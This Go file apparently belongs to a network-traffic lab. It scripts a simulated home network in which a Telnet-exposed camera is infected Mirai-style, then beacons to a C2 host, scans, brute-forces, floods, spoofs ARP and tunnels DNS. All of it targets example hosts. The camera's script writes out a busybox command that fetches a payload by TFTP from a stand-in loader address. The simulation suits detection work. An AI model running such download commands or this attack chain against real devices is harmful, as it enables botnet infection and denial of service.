package lab

import (
	"net/netip"
	"slices"
	"time"
)

// Infected is a part of the same home on a worse day: the camera is broken into by Telnet, which UPnP had
// opened to the Internet, and then does what such cameras do.
func Infected() *Home {
	h := Family()
	h.Seed++
	h.Start = time.Date(2026, 5, 6, 2, 30, 0, 0, time.UTC)
	h.Length = 16 * time.Minute
	h.Devices = slices.DeleteFunc(h.Devices, func(d Device) bool {
		return !slices.Contains([]string{"hub", "plug", "camera", "tv", "nas"}, d.Name)
	})
	for i := range h.Devices {
		switch d := &h.Devices[i]; d.Name {
		case "camera":
			d.Script = infected
		case "tv":
			d.Script = func(a *Actor) {
				a.Join()
				a.Announce()
				a.Advertise()
				a.Until(12 * time.Minute)
				a.ReflectSSDP("victim.example.net", 10, 60*time.Millisecond)
			}
		case "nas":
			d.Prefer6 = false
			d.Script = func(a *Actor) {
				a.Join()
				a.Announce()
				a.NTP("pool.ntp.org")
				a.Until(12*time.Minute + 30*time.Second)
				a.ReflectNTP("victim.example.net", 10, 80*time.Millisecond)
			}
		}
	}
	server := func(name string, ms int, addr string) {
		h.Servers = append(h.Servers, Server{Name: name, Distance: time.Duration(ms) * time.Millisecond, IPv4: []netip.Addr{netip.MustParseAddr(addr)}})
	}
	server("bot.example.net", 120, "198.51.100.201")
	server("loader.example.net", 130, "198.51.100.202")
	server("cnc.example.net", 140, "198.51.100.203")
	server("victim.example.net", 60, "192.0.2.66")
	server("target.example.org", 70, "192.0.2.99")
	return h
}

func infected(a *Actor) {
	a.Join()
	a.NTP("pool.ntp.org")
	a.Finding("exposed.portmap", "router", func() { a.MapPort("TCP", 23, 23, "telnet") })
	a.HTTPS("dev.hik-connect.com", 600, 300)

	// Broken into.
	a.Until(2 * time.Minute)
	const banner = "\r\nDS-2CD2042WD-I"
	a.Finding("exposed.service", "bot.example.net", func() {
		for i := range 5 {
			c := a.Accept("bot.example.net", 23)
			c.Telnet(banner, passwords[i][0], passwords[i][1], i == 4, "enable", "sh", "/bin/busybox LABBOT", "tftp -g -r lab.arm7 198.51.100.202")
			c.CloseRemote()
			a.Wait(time.Second)
		}
	})
	a.Finding("clear.firmware", "loader.example.net", func() {
		a.Get("loader.example.net", 80, "/lab.arm7", "", Page{"200 OK", "Apache", "application/octet-stream", "", "\x7fELF" + string(octets(a.rng, 4000))})
		a.TFTP("loader.example.net", "lab.arm7", 1500)
	})
	a.Meanwhile(func() { a.Beacon("cnc.example.net", 48101, 30*time.Second) })

	// At work.
	a.Until(3 * time.Minute)
	a.ScanTelnet(300, 40*time.Millisecond)
	a.Until(5 * time.Minute)
	a.ScanPorts("nas", 130, 25*time.Millisecond, 22, 80, 139, 443, 445)
	a.GuessSSH("nas", OpenSSH8, 12)
	a.GuessTelnet("nas", "\r\nDiskStation", 12)
	a.Until(8 * time.Minute)
	a.FloodSYN("target.example.org", 80, 260, 2*time.Millisecond, false)
	a.Until(9 * time.Minute)
	a.FloodSYN("target.example.org", 443, 160, 3*time.Millisecond, true)
	a.FloodUDP("target.example.org", 200, 48, 3*time.Millisecond)
	a.Until(10 * time.Minute)
	a.SpoofARP("nas", 20, time.Second)
	a.RogueRouter(netip.MustParsePrefix("2001:db8:bad::/64"), 6, 4*time.Second)
	a.FloodDHCP(32, 20*time.Millisecond)
	a.Until(13 * time.Minute)
	a.TunnelDNS("t.example.net", 50)
	a.GenerateNames(30)
	a.Until(15 * time.Minute)
	a.Finding("clear.credentials", "alarm.example.com", func() {
		a.Post("alarm.example.com", 80, "/upload", basic("admin", "not-a-real-password"), "motion=1", Page{"401 Unauthorized", "Apache/2.2.15", "text/html", "WWW-Authenticate: Basic realm=\"alarm\"\r\n", "no"})
	})
}
